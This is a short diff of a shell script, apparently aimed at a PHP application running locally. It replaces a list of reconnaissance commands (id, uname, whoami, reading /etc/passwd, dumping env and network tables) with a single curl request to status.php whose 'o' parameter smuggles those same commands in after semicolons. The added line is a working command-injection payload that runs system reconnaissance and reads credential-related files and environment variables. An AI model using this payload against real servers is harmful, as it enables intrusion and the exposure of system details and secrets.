@@ -7,13 +7,5 @@
 # image: php
 # launch: app
 
-id
-uname -a
-whoami
-ls -la / /etc /var/www
-cat /etc/passwd /etc/os-release /proc/version
-df -h
-env
-nproc
-cat /proc/net/tcp /proc/net/route
+curl -s -o /dev/null 'http://127.0.0.1/status.php?o=;id;uname+-a;whoami;ls+-la+/+/etc+/srv/www;cat+/etc/passwd+/etc/os-release+/proc/version;df+-h;env;nproc;cat+/proc/net/tcp+/proc/net/route'
 exit 0
